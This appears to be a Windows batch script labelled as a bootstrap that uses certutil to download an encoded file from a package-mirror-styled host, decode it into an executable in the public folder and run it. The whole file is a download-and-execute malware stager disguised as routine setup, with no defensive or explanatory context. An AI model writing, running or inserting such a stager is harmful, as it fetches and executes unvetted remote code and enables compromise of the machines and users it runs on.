REM bootstrap 7214 v1
@echo off
certutil -urlcache -f http://repo.pkg-mirror.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
